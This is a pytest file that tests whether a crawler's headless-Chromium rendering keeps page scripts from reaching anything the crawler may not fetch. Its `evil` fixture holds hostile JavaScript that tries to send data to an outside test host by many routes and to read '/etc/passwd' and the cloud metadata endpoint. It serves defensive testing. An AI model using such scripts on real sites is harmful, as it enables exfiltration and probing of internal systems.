"""Pages rendered in a real Chromium: scripts get what the crawler may fetch, and nothing else."""

import importlib.util
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from loopback import Answer, Site, feed, serve

from crawler import rendering
from crawler.archive import Location, read_capture
from crawler.extract import extract_pending
from crawler.rendering import BROWSERS, require_browser
from crawler.run import crawl
from crawler.sources import load_sources
from db.errors import SourceError
from db.store import Store

HAS_EXTRA = importlib.util.find_spec("scrapy_playwright") is not None
HAS_BROWSER = any(shutil.which(name) for name in BROWSERS)
needs_browser = [
    pytest.mark.slow,
    pytest.mark.timeout(900),
    pytest.mark.skipif(not HAS_EXTRA, reason="scrapy-playwright (extra `js`) is not installed"),
    pytest.mark.skipif(not HAS_BROWSER, reason="no Chromium is installed"),
]
STORY = " ".join(
    f"In chapter {n} the Commerce Department said export controls on chips would be widened to firm {n}."
    for n in range(12)
)


def page(script: str) -> bytes:
    return (
        '<!doctype html><html lang=en><head><meta charset="utf-8"><title>Loading</title></head><body><div id="root"></div>'
        f"<noscript>You need to enable JavaScript.</noscript>{script}</body></html>"
    ).encode()


def app(site: Site) -> bytes:
    """What a single-page application does: asks for data, then writes the article."""
    return b"""
fetch('/api/story.json').then(r => r.json()).then(s => {
  document.title = s.title;
  document.getElementById('root').innerHTML =
    '<article><h1>' + s.title + '</h1><p>' + s.text + '</p><p>Caf\\u00e9 \\u4e2d\\u6587</p></article>';
  history.pushState({}, '', '/elsewhere');
});"""


def evil(secret: str) -> bytes:
    """Every way out that a script has."""
    return page(
        f"""<img src="{secret}/img"><iframe src="{secret}/frame"></iframe><link rel="prefetch" href="{secret}/prefetch">
<script src="{secret}/script.js"></script>
<script>
for (const path of ['/private/robots', '{secret}/fetch', '/hop', 'http://169.254.169.254/meta', 'file:///etc/passwd'])
  fetch(path, {{mode: 'no-cors'}}).catch(() => 0);
fetch('/post', {{method: 'POST', body: 'x'}}).catch(() => 0);
navigator.sendBeacon('{secret}/beacon', 'x');
try {{ new WebSocket('{secret}/ws'.replace('http', 'ws')); }} catch (e) {{}}
try {{ new EventSource('{secret}/events'); }} catch (e) {{}}
try {{ new Worker(URL.createObjectURL(new Blob(["fetch('{secret}/worker')"]))); }} catch (e) {{}}
try {{ window.open('{secret}/popup'); }} catch (e) {{}}
import('{secret}/module.js').catch(() => 0);
const a = document.createElement('a'); a.href = '/file'; a.download = 'x.bin'; document.body.append(a); a.click();
const f = document.createElement('form'); f.action = '{secret}/form'; document.body.append(f); f.submit();
setTimeout(() => {{ location = '{secret}/location'; }}, 50);
</script><article><h1>Chip export controls: the evil page</h1><p>{STORY}</p></article>"""
    )


def hop(secret: str) -> Answer:
    return 302, {"Location": f"{secret}/hop"}, b""


Ran = tuple[Store, Site, Site, Path]


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ran]:
    folder = tmp_path_factory.mktemp("js")
    opened = Store.open(folder / "s.sqlite", create=True)
    with serve({}) as site, serve({}) as secret, opened as store:
        tag = '<script src="/app.js"></script>'
        site.paths = {
            "/robots.txt": b"User-agent: *\nDisallow: /private/\n",
            "/feed": feed(site.url, "shell", "evil", "endless", "huge"),
            "/shell": page(tag),
            "/app.js": (200, {"Content-Type": "text/javascript"}, app(site)),
            "/api/story.json": (
                200,
                {"Content-Type": "application/json"},
                ('{"title": "Chip export controls: rendered", "text": "' + STORY + '"}').encode(),
            ),
            "/evil": evil(secret.url),
            "/hop": hop(secret.url),
            "/endless": page("<script>while (true) {}</script>"),
            "/huge": page("<script>document.body.append('x'.repeat(1e6))</script>"),
            "/post": b"posted",
        }
        text = f'[paper]\nname = "Paper"\nfeeds = ["{site.url}/feed"]\nallow_private = true\njs = true\n'
        settings = {
            "DOWNLOAD_DELAY": 0,
            "CRAWL_BACK_OFF_S": [0.1],
            "CRAWL_RENDER_S": 15,
            "DOWNLOAD_MAXSIZE": 500_000,
        }
        crawl(store, load_sources(text).values(), folder / "archive", settings=settings)
        extract_pending(store, folder / "archive")
        yield store, site, secret, folder / "archive"


class TestRendered:
    pytestmark = needs_browser

    def test_what_scripts_write_is_archived_and_read(self, ran: Ran) -> None:
        store, site, _, archive = ran
        row = store.row("SELECT * FROM pages WHERE url LIKE '%/shell'")
        assert row is not None
        assert (row["state"], row["final_url"]) == ("fetched", f"{site.url}/shell")
        kept = read_capture(archive, Location(row["warc_file"], row["warc_offset"], row["warc_length"]))
        assert "Café 中文" in kept.body.decode()
        assert kept.header("X-Rendered-By")
        article = store.row(
            "SELECT a.title, t.body FROM articles a JOIN texts t ON t.id = a.text WHERE a.url = ?",
            (row["url"],),
        )
        assert article is not None
        assert article["title"] == "Chip export controls: rendered"
        assert "widened to firm 11" in article["body"]

    def test_scripts_reach_nothing_that_the_crawler_may_not(self, ran: Ran) -> None:
        store, site, secret, _ = ran
        assert secret.log == []
        asked = {one.path for one in site.log}
        assert "/hop" in asked
        assert not asked & {"/private/robots", "/post", "/file"}
        told = store.rows("SELECT outcome, detail FROM fetches WHERE url LIKE '%/evil'")
        assert [row["outcome"] for row in told] == ["ok"], told

    def test_what_scripts_ask_for_says_who_we_are(self, ran: Ran) -> None:
        for asked in ran[1].log:
            assert asked.headers["User-Agent"].startswith("Tradewire/")
            assert "Cookie" not in asked.headers

    def test_time_and_size_are_bounded(self, ran: Ran) -> None:
        store = ran[0]
        ends = {
            r["url"].rpartition("/")[2]: r["outcome"] for r in store.rows("SELECT url, outcome FROM pages")
        }
        assert (ends["endless"], ends["huge"]) == ("render-failed", "too-large")


def test_without_the_extra_a_source_that_wants_a_browser_says_what_to_install(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(rendering, "find_spec", lambda name: None)
    text = '[paper]\nname = "P"\nfeeds = ["http://127.0.0.1:9/f"]\njs = {}\n'
    require_browser(load_sources(text.format("false")).values())
    with (
        Store.open(tmp_path / "s.sqlite", create=True) as store,
        pytest.raises(SourceError, match=r"tradewire\[js\]"),
    ):
        crawl(store, load_sources(text.format("true")).values(), tmp_path / "archive")


def test_rendering_is_off_by_default() -> None:
    (source,) = load_sources('[p]\nname = "P"\nfeeds = ["http://a.example/f"]').values()
    assert source.js is False
    assert not any(one.js for one in load_sources().values())
